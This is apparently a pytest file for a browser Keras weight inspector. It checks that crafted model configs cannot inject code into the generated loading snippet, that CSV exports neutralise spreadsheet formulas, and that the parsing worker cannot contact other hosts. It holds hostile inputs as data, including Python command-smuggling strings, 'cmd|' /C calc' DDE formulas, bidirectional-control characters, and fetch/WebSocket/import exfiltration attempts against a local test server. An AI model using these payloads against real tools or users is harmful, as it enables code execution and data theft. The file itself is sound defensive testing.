"""The weight inspector and files that mean harm.

It matters what it prints, saves and shows of them, and what its worker may do.
"""

import ast
import base64
import csv
import io
import json
import threading
import unicodedata
import zipfile
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import h5py
import numpy as np
import pytest
from browsing.site import address
from guide_model.snippets import LANGUAGES
from maintaining.known import FILE, REACHING, of_both, text
from maintaining.learned import SAMPLE
from test_inspector import READ

DENSE = {
    "module": "keras.layers",
    "class_name": "Dense",
    "config": {"name": "dense", "units": 2},
    "registered_name": None,
}
BENT = [
    "\u202e",
    "\u2066",
    "\u200e",
    "\ufeff",
    "\u00ad",
    "\u3164",
    "\U000e0041",
    "\x1b",
    "\x85",
    "\u2028",
    "\u00a0",
    "\ue000",
]
BREAKING_OUT = [
    '"); import os; os.system("x") #',
    "\\",
    '\\"); x(',
    "a\nimport os",
    "a\r\nimport os",
    "'''",
    '"""',
    "{x}",
    "${x}",
    "\ud800",
    "</code><script>x</script>",
    *BENT,
]
CALLS = {
    "load_model", "get_layer", "get_weights", "asarray", "isfinite", "isnan", "isinf", "print",
    "min", "max", "mean", "std", "sum", "File", "ZipFile", "BytesIO", "read", "view",
}  # fmt: skip
# What a spreadsheet could take for a formula, alone or where its separators are others
FORMULAS = [
    "=1+1", "=2+5+cmd|' /C calc'!A0", "+1+cmd|x!A0", "-1+cmd|x!A0", "@1SUM(1)", "@SUM(1)",
    " =1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\t1", "＝1+1", "＋1", "－1", "＠SUM(1)",
    '"=1+1', 'a";=1+1', "a;=1+1", "a,=1+1", "a\n=1+1", "a\t=1",
    "\ufeff=1+1", "\u200b=1+1", "\u00a0=1", "'=1", 'a; "=1',
]  # fmt: skip


def node(module, class_name, config=None, **more):
    return {
        "module": module,
        "class_name": class_name,
        "config": config or {"name": "dense"},
        "registered_name": None,
        **more,
    }


def model(*layers, **more):
    return node("keras", "Sequential", {"name": "model", "layers": [*layers]}, **more)


def dense(**config):
    return {**DENSE, "config": {**DENSE["config"], **config}}


def function(name, module="builtins"):
    return {
        "module": module,
        "class_name": "function",
        "config": name,
        "registered_name": "function",
    }


def kept(config):
    """Return a .keras file of this config, with the weights of one Dense layer."""
    weights, file = io.BytesIO(), io.BytesIO()
    with h5py.File(weights, "w") as group:
        group["layers/dense/vars/0"], group["layers/dense/vars/1"] = (
            np.ones((3, 2), "float32"),
            np.zeros(2, "float32"),
        )
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("metadata.json", '{"keras_version": "3.15.1"}')
        archive.writestr("model.weights.h5", weights.getvalue())
    return file.getvalue()


def grouped(name, legacy):
    """Return an HDF5 file with a layer of this name, as .h5 has it or as .weights.h5 has it."""
    file = io.BytesIO()
    with h5py.File(file, "w") as group:
        if legacy:
            group.attrs["layer_names"] = [name.encode()]
            layer = group.create_group(name)
            layer.attrs["weight_names"] = [b"kernel:0"]
            layer["kernel:0"] = np.ones((2, 2), "float32")
        else:
            group[f"layers/{name}/vars/0"] = np.ones((2, 2), "float32")
    return file.getvalue()


@pytest.fixture(scope="module")
def read(browser, served):
    page = browser.new_page()
    page.goto(served + address("ko", "tools/inspector"))
    yield lambda name, content: page.evaluate(READ, [name, base64.b64encode(content).decode()])
    page.close()


def printed(read, config):
    said = read("model.keras", kept(config))
    assert len(said.get("codes", ())) == 2, f"{config}: {said}"
    return "\n".join(said["codes"].values())


def test_load_model_is_printed_for_what_keras_itself_writes(read):
    policy = node("keras", "DTypePolicy", {"name": "mixed_float16"})
    adam = node("keras.optimizers", "Adam", {"learning_rate": 0.1})
    for config in (
        model(DENSE),
        model(dense(activation="relu", dtype=policy)),
        model(
            dense(kernel_initializer=node("keras.initializers", "Zeros", {})),
            build_config={"input_shape": [None, 3]},
        ),
        model(
            DENSE,
            compile_config={
                "optimizer": adam,
                "loss": function("mse"),
                "metrics": [function("mae", "keras.metrics")],
            },
        ),
        {
            **model(DENSE),
            "module": "keras.src.models.functional",
            "class_name": "Functional",
            "registered_name": "Functional",
        },
        {
            **model(DENSE),
            "module": "tf_keras.src.engine.functional",
            "class_name": "Functional",
            "registered_name": "Functional",
        },
        model(
            {
                **DENSE,
                "inbound_nodes": [
                    {
                        "args": [
                            {
                                "class_name": "__keras_tensor__",
                                "config": {"shape": [None, 3], "dtype": "float32"},
                            }
                        ]
                    }
                ],
            }
        ),
    ):
        assert "keras.models.load_model(" in printed(read, config), config


NOT_KERAS = [
    "this", "builtins", "subprocess", "os", "keras_evil", "kerasx.layers", "keras..os",
    "keras/../os", "Keras.layers", "keras.layers\n", " keras", "tensorflow.keras", "__main__", "",
    1, ["keras"], {"a": 1},
]  # fmt: skip
NO_LAYERS = [
    *REACHING, "X", "get_file", "load_model", "TFOpLambda", "SlicingOpLambda", "os>system",
    "__lambda__", "__typespec__", "constructor", "__proto__", 1, ["Dense"], None,
]  # fmt: skip


def hostile():
    for module in NOT_KERAS:
        yield model(DENSE, node(module, "Dense"))
    for type in NO_LAYERS:
        yield model(DENSE, node("keras.layers", type))
    nodes = [
        node("this", "X"),
        function("eval"),
        function("get_file", "keras.utils"),
        function("load_model", "keras.models"),
        function("deserialize", "keras.layers"),
        function("relu", "os"),
        {"class_name": "__lambda__", "config": {"value": "4wE="}},
        {"__lambda__": 1},
        {"__class_bytes__": "gASV"},
        {"module": "os"},
        {"registered_name": "own>X"},
    ]
    for one in nodes:
        yield model(DENSE, compile_config={"loss": one})
        yield model(DENSE, build_config={"shapes": [one]})
        yield model(dense(activation=one))
        yield model(dense(deep=[{"a": [{"b": one}]}]))
        yield model({**DENSE, "inbound_nodes": [{"args": [one], "kwargs": {}}]})
        yield model(DENSE, one)
    yield model({**DENSE, "registered_name": "own>Dense"})
    yield model(
        dense(
            dtype=node(
                "keras.dtype_policies",
                "Int4DTypePolicy",
                {"mode": "int4", "source_name": "float32"},
            )
        )
    )
    yield model(dense(dtype=node("keras", "DTypePolicy", {"name": "int4_from_float32"})))
    yield model(dense(dtype="int8_from_float32"))
    yield model(dense(lora_rank=2))


def test_load_model_is_not_printed_for_a_config_that_names_anything_else(read):
    """Keras 3.8 imports any module that a config names; the numbers are read without it."""
    asked = list(hostile())
    wrong = [config for config in asked if "load_model" in printed(read, config)]
    assert len(asked) > 80 and not wrong, "\n".join(map(str, wrong))


def test_the_known_names_are_those_of_both_generations(keras_forks):
    def printed(generation):
        return keras_forks.run(generation, "-m", "maintaining.known", "--print").stdout

    assert FILE.read_text("utf8") == text(of_both(printed)), "run `python -m maintaining.known`"


def calls(code):
    """Return what a code calls and imports, as Python understands it."""
    tree = ast.parse(code)
    named = [
        getattr(call.func, "attr", getattr(call.func, "id", None))
        for call in ast.walk(tree)
        if isinstance(call, ast.Call)
    ]
    imported = {
        alias.name
        for one in ast.walk(tree)
        if isinstance(one, ast.Import | ast.ImportFrom)
        for alias in one.names
    }
    return (
        set(named),
        imported,
        {one.value for one in ast.walk(tree) if isinstance(one, ast.Constant)},
    )


def test_no_name_breaks_out_of_the_code_or_hides_in_it(read):
    """As the name of a layer, of a group and of the file.

    Only .keras files are given to load_model.
    """
    for name in BREAKING_OUT:
        in_hdf5 = name.replace("\ud800", "").replace("/", "") or "x"
        files = [
            (f"{name}.keras", kept(model(dense(name=name)))),
            (f"{name}.h5", grouped(in_hdf5, True)),
            (f"{name}.weights.h5", grouped(in_hdf5, False)),
        ]
        for file, content in files:
            said = read(file, content)
            assert said.get("codes"), f"{file!r}: {said}"
            for code in said["codes"].values():
                named, imported, texts = calls(code)
                assert named <= CALLS and imported <= {"h5py", "numpy", "keras", "io", "zipfile"}, (
                    code
                )
                assert file in texts, f"{code}\ndoesn't open {file!r}"
                assert ("load_model" in code) == file.endswith(".keras"), code
                unseen = [
                    letter
                    for letter in code
                    if letter not in "\n " and unicodedata.category(letter)[0] in "CZ"
                ]
                assert not unseen and "\u3164" not in code, ascii(code)


@pytest.fixture(params=LANGUAGES)
def inspector(request, page, served):
    page.goto(served + address(request.param, "tools/inspector"))
    page.locator("weight-inspector[data-ready]").wait_for()
    return page


def open_file(page, name, content):
    page.locator("weight-inspector input[type=file]").first.set_input_files(
        {"name": name, "mimeType": "application/octet-stream", "buffer": content}
    )
    page.locator("weight-inspector[data-complete]").wait_for()


def test_letters_that_turn_the_line_around_are_shown_as_codes(inspector):
    open_file(inspector, "bent.keras", kept(model(dense(name="a" + "".join(BENT) + "z"))))
    inspector.locator(".tool__weight").first.click()
    shown = inspector.locator("weight-inspector").inner_text()
    assert "a\\u202e\\u2066\\u200e\\ufeff\\u00ad\\u3164\\U000e0041\\u001b" in shown
    assert not [
        letter
        for letter in BENT
        if letter in inspector.locator("weight-inspector").evaluate("e => e.textContent")
    ]


LOSE_WORKERS = """
    window.started = 0
    window.Worker = class extends Worker {
        constructor(...given) {
            super(...given)
            if (!String(given[0]).startsWith("blob:")) return  // the search has one, too
            window.started++
            window.lose = () => this.dispatchEvent(new ErrorEvent("error", { message: "lost" }))
        }
    }
"""


def test_a_lost_worker_is_replaced_and_given_the_files_that_are_open(page, served):
    page.add_init_script(LOSE_WORKERS)
    page.goto(served + address("en", "tools/inspector"))
    open_file(page, "mine.keras", SAMPLE.read_bytes())
    row, bars = page.locator(".tool__weight").first, page.locator(".tool__detail svg").first
    for _ in "ab":
        page.evaluate("lose()")
        row.click()
        bars.wait_for()
        page.locator(".tool__detail button").first.click()
        page.locator(".tool__detail").wait_for(state="hidden")
    assert not page.locator("weight-inspector [role=alert]").is_visible()
    page.locator("weight-inspector input[type=file]").nth(1).set_input_files(
        {"name": "b.keras", "mimeType": "", "buffer": SAMPLE.read_bytes()}
    )
    page.locator("weight-inspector [role=status]", has_text="b.keras").wait_for()
    page.evaluate("lose()")
    row.click()
    bars.wait_for()
    assert page.evaluate("started") == 4


def test_load_model_comes_with_a_warning_and_h5py_without(inspector):
    warning = inspector.locator(".tool__trust")
    open_file(inspector, "mine.keras", SAMPLE.read_bytes())
    inspector.locator(".tool__weight").first.click()
    assert "load_model" in inspector.locator("weight-inspector pre").inner_text()
    assert "3.14" in warning.inner_text()
    inspector.reload()
    open_file(inspector, "mine.keras", kept(model(DENSE, node("this", "X"))))
    inspector.locator(".tool__weight").first.click()
    assert "h5py" in inspector.locator("weight-inspector pre").inner_text() and not warning.count()
    assert "undefined" not in inspector.locator(".tool__detail").inner_text()


def saved(page):
    with page.expect_download() as download:
        page.locator("weight-inspector .md-button", has_text="CSV").click()
    return list(
        csv.DictReader(
            io.StringIO(download.value.path().read_bytes().decode("utf-8-sig"), newline=""),
            strict=True,
        )
    )


def is_formula(cell):
    return cell.strip().strip("\ufeff\u200b\"'").strip().startswith(tuple("=+-@＝＋－＠"))


def test_the_csv_holds_no_formula_and_every_number(page, served):
    page.goto(served + address("en", "tools/inspector"))
    page.locator("weight-inspector[data-ready]").wait_for()
    for name in FORMULAS:
        open_file(page, "model.keras", kept(model(dense(name=name))))
        page.locator("weight-inspector tr[data-path] button").nth(1).wait_for()
        kernel, bias = saved(page)
        assert kernel["layer"].replace("'", "") == name.replace("'", ""), (
            "nothing but quotes is added"
        )
        assert (
            kernel["layer"].startswith("'")
            or not is_formula(kernel["layer"])
            and name[0] not in "\t\r\n"
        ), ascii(kernel)
        for separator in ";,\t\r\n":
            assert not [
                ascii(part)
                for part in kernel["layer"].split(separator)[1:]
                if is_formula(part) and not part.lstrip().startswith("'")
            ]
        assert (
            kernel["path"],
            kernel["shape"],
            kernel["count"],
            kernel["mean"],
            bias["zeros"],
        ) == ("layers/dense/vars/0", "(3, 2)", "6", "1", "1")


def test_negative_numbers_stay_numbers_in_the_csv(inspector):
    open_file(inspector, "sample.keras", SAMPLE.read_bytes())
    rows = saved(inspector)
    with (
        zipfile.ZipFile(SAMPLE) as archive,
        h5py.File(io.BytesIO(archive.read("model.weights.h5"))) as file,
    ):
        for row in rows:
            values = file[row["path"]][()].astype("float64")
            assert float(row["min"]) == values.min() < 0 and float(row["mean"]) == pytest.approx(
                values.mean()
            )


@pytest.fixture
def elsewhere():
    """The address of another host, and what it was asked for."""
    asked = []

    class Host(BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Type", "text/javascript")
            self.send_header("Content-Length", "0")
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *_):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Host)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()


# What code within the worker can try. It runs from a timer: what the test's own tool runs is let
# off the policy.
TRIES = """host => new Promise(done => setTimeout(async () => {
    const outcome = {}
    const attempt = async (name, call) => {
        try {
            outcome[name] = String(await call() ?? "done")
        } catch (error) {
            outcome[name] = error.name
        }
    }
    const answers = (made, event) => new Promise((ok, no) => {
        made[event] = ok
        made.onerror = () => no(new TypeError())
    })
    const post = {mode: "no-cors", method: "POST", body: "weights"}
    await attempt("fetch", () => fetch(host + "/fetch", {mode: "no-cors"}))
    await attempt("post", () => fetch(host + "/post", post))
    await attempt("request", () => {
        const request = new XMLHttpRequest()
        request.open("GET", host + "/xhr", false)
        request.send()
    })
    await attempt("import", () => import(host + "/import.js"))
    const socket = host.replace("http", "ws") + "/socket"
    await attempt("socket", () => answers(new WebSocket(socket), "onopen"))
    await attempt("events", () => answers(new EventSource(host + "/events"), "onopen"))
    await attempt("eval", () => eval("1"))
    await attempt("function", () => new Function("return 1")())
    await attempt("data", () => import("data:text/javascript,1"))
    await attempt("within", () => answers(new Worker(host + "/worker.js"), "onmessage"))
    await attempt("own", async () => {
        const answer = await fetch(new URL("/guide/", location.origin))
        if (!answer.ok) throw new Error()
    })
    done(outcome)
}))"""


@pytest.mark.parametrize("language", LANGUAGES)
def test_the_worker_that_parses_the_file_can_reach_no_other_host(
    browser, served, elsewhere, language
):
    """GitHub Pages sends no policy, so that of the page has to reach the worker, too."""
    host, asked = elsewhere
    page = browser.new_page()
    page.goto(served + address(language, "tools/inspector"))
    with page.expect_worker() as worker:
        open_file(page, "mine.keras", SAMPLE.read_bytes())
    outcome = worker.value.evaluate(TRIES, host)
    page.close()
    assert outcome.pop("own") == "done", "asking the site itself shows that the tries are run"
    assert not asked, f"the worker asked another host for {asked}"
    assert set(outcome.values()) <= {"TypeError", "EvalError", "NetworkError", "SecurityError"}, (
        outcome
    )
